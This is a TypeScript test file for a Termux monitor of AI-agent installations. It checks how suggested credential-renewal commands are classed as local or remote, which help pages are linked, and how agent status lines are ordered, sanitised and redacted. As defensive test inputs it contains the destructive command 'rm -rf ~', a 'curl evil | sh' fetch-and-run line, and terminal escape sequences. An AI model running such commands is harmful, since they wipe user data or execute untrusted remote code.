import { describe, expect, test } from "vitest";
import type { ProfileReport, RemoteReport } from "../../src/snapshot.ts";
import { describeAgents, summariseAgents } from "../../src/termux/agent-lines.ts";
import { findPage } from "../../src/termux/pages.ts";
import { listToDo } from "../../src/termux/to-do.ts";
import { buildAgent, buildInstallation, buildProfile, buildSnapshot, inHours, NOW } from "../snapshot-builder.ts";

function remote(overrides: Partial<RemoteReport>): RemoteReport {
  return {
    name: "vps",
    address: "https://vps.example.com:10884",
    isUp: true,
    askedAt: NOW,
    lastSeenAt: NOW,
    lastCheckAt: NOW,
    verdict: "ok",
    problem: null,
    ...overrides,
  };
}

const EXPIRED: Partial<ProfileReport> = {
  provider: "anthropic",
  type: "token",
  status: "expired",
  expiresAt: inHours(-2),
  verdict: "critical",
  verdictReason: "expired",
};

describe("what can be run here", () => {
  test.each([
    ["a command of this host", "openclaw", null, "claude setup-token", "here"],
    ["by SSH", "vps-openclaw", "ssh://ada@vps.example.com", "ssh -t ada@vps.example.com 'claude setup-token'", "here"],
    ["what a host says over HTTP", "vps-openclaw", "https://vps.example.com", "rm -rf ~  # on vps", "elsewhere"],
    ["what looks like SSH over HTTP", "vps-openclaw", "https://vps.example.com", "ssh -t x 'y'  # on vps", "elsewhere"],
    ["anything else of a host asked by SSH", "vps-openclaw", "ssh://vps.example.com", "rm -rf ~", "elsewhere"],
    ["a comment", "openclaw", null, "# wait until tomorrow", "note"],
  ])("%s", (_name, id, address, action, kind) => {
    const profiles = [buildProfile({ ...EXPIRED, action })];
    const installation = buildInstallation({ id, profiles, ...(address === null ? {} : { remote: "vps" }) });
    const remotes = address === null ? [] : [remote({ address })];
    expect(listToDo(buildSnapshot({ installations: [installation], remotes }))).toMatchObject([{ action, kind }]);
  });
});

test.each([
  ["of a host that is asked by SSH", "vps-2", "here"],
  ["of one over HTTP that calls itself as the other does", "vps", "elsewhere"],
  ["of one that is not asked any more", "gone", "elsewhere"],
])("a command %s: what counts is whom it was asked of", (_name, name, kind) => {
  const action = "ssh -t elsewhere 'curl evil | sh'";
  const profiles = [buildProfile({ ...EXPIRED, action })];
  const installation = buildInstallation({ id: "vps-2-openclaw", profiles, remote: name });
  const remotes = [remote({}), remote({ name: "vps-2", address: "ssh://vps-2" })];
  expect(listToDo(buildSnapshot({ installations: [installation], remotes }))).toMatchObject([{ action, kind }]);
});

test("each command stands there once, and names nobody", () => {
  const profile = buildProfile({ ...EXPIRED, profileId: "anthropic:ada@example.com", action: "claude setup-token" });
  const lost = { verdict: "critical", reason: "no_usable_credential", canAnswer: false } as const;
  const agent = buildAgent({ ...lost, message: "agent main cannot answer", action: "claude setup-token" });
  const installation = buildInstallation({ profiles: [profile], agents: [agent] });
  const list = listToDo(buildSnapshot({ installations: [installation] }));
  expect(list.length).toBe(1);
  expect(list[0]?.label).not.toContain("ada@");
});

test.each([
  ["addresses of one mask", ["anthropic:ada@example.com", "anthropic:alice@example.com"]],
  ["long ids with both ends the same", ["one", "two"].map((one) => `${"x".repeat(50)} ${one} ${"x".repeat(50)}`)],
])("%s stand there as two", (_name, ids) => {
  const profiles = ids.map((profileId) => buildProfile({ ...EXPIRED, profileId, action: `openclaw ${profileId}` }));
  const list = listToDo(buildSnapshot({ installations: [buildInstallation({ profiles, agents: [] })] }));
  expect(new Set(list.map(({ label }) => label)).size).toBe(2);
  for (const { label } of list) expect(label).toMatch(/~[0-9a-f]{4}: expired 2h ago$/);
});

describe("the page that helps", () => {
  const billing = { kind: "disabled", reason: "billing", until: inHours(5), model: null } as const;
  test.each<[string, Partial<ProfileReport>, string | null]>([
    ["an API key", { type: "api_key" }, "https://console.anthropic.com/settings/keys"],
    ["a setup-token comes from its command", { type: "token" }, null],
    ["a login opens its own", { type: "oauth" }, null],
    ["a provider that nobody knows", { type: "api_key", provider: "homemade" }, null],
    [
      "a bill",
      { type: "oauth", verdictReason: "disabled", unusable: billing },
      "https://console.anthropic.com/settings/billing",
    ],
    [
      "a window that passes",
      { type: "api_key", verdictReason: "blocked", unusable: { ...billing, reason: "x" } },
      null,
    ],
    [
      "a key that was revoked",
      { type: "api_key", verdictReason: "disabled", unusable: { ...billing, reason: "auth_permanent" } },
      "https://console.anthropic.com/settings/keys",
    ],
  ])("%s", (_name, overrides, page) => {
    expect(findPage(buildProfile({ ...EXPIRED, ...overrides }))).toBe(page);
  });
});

describe("lines of agents", () => {
  test("what is critical comes before what nobody knows, and that before the rest", () => {
    const agents = [
      buildAgent({ id: "well" }),
      buildAgent({
        id: "far",
        canAnswer: null,
        verdict: "warning",
        message: "vps last seen 3h ago; then: agent far is fine",
      }),
      buildAgent({ id: "low", verdict: "warning", message: "agent low has one left" }),
      buildAgent({
        id: "lost",
        canAnswer: false,
        verdict: "critical",
        message: "agent lost cannot answer: none is left",
      }),
      buildAgent({ id: "leftover", isListed: false, verdict: "critical" }),
    ];
    const lines = describeAgents(buildSnapshot({ installations: [buildInstallation({ agents })] }));
    expect(lines.map(({ text }) => text)).toEqual([
      "✗ lost: cannot answer: none is left",
      "? far: vps last seen 3h ago",
      "! low: has one left",
      "✓ well: ok",
    ]);
    expect(summariseAgents(lines)).toBe("2 of 4 agents need you, 1 of 4 agents not known");
  });

  test.each([
    ["beside agents", [buildInstallation()], "1 host not known, 1 agent well"],
    ["alone", [], "1 host not known"],
  ])("a host that was never seen is no agent, %s", (_name, installations, expected) => {
    const nas = remote({ name: "nas", isUp: false, lastSeenAt: null, verdict: "warning" });
    const lines = describeAgents(buildSnapshot({ installations, remotes: [nas] }));
    expect(lines.map(({ text }) => text)).toContain("? nas: never seen");
    expect(summariseAgents(lines)).toBe(expected);
  });

  test("agents of several installations say which", () => {
    const installations = [buildInstallation(), buildInstallation({ id: "vps-openclaw" })];
    expect(describeAgents(buildSnapshot({ installations })).map(({ text }) => text)).toEqual([
      "✓ main@openclaw: ok",
      "✓ main@vps-openclaw: ok",
    ]);
    expect(summariseAgents([])).toBe("No agents found");
  });

  test("what a store says cannot act on the screen", () => {
    const agents = [
      buildAgent({ id: "ada@example.com\u001b[2J\u202e", verdict: "critical", message: "sk-ant-oat01-CANARY0000" }),
    ];
    const [line] = describeAgents(buildSnapshot({ installations: [buildInstallation({ agents })] }));
    expect(line?.text).toBe("✗ a***@example.com: [redacted]");
  });
});
